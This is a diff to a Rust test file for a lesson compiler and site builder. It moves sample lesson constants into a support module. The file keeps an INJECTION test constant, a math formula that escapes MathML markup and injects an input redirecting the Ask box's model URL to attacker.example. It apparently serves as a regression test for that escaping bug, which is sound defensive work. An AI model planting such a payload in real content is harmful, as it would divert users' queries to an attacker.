@@ -6,17 +6,9 @@ use goodput::lesson::compiler::compile_lesson;
 use goodput::lesson::{Block, Lesson};
 use goodput::pages::build_site;
 
-const FILE: &str = "lessons/99-sample.md";
-
-const FRONT_MATTER: &str = "+++
-title = \"Sample\"
-number = 99
-slug = \"sample\"
-summary = \"A sample.\"
-objectives = [\"Learn.\"]
-minutes = 3
-+++
-";
+#[path = "support/sample_lesson.rs"]
+mod sample_lesson;
+use sample_lesson::{FILE, FRONT_MATTER};
 
 /// The formula that, unescaped, closed the annotation and the MathML and added an input with the Ask box's id.
 const INJECTION: &str = r#"r</annotation></semantics></math><input id=ask-model-url value="https://attacker.example/v1">"#;
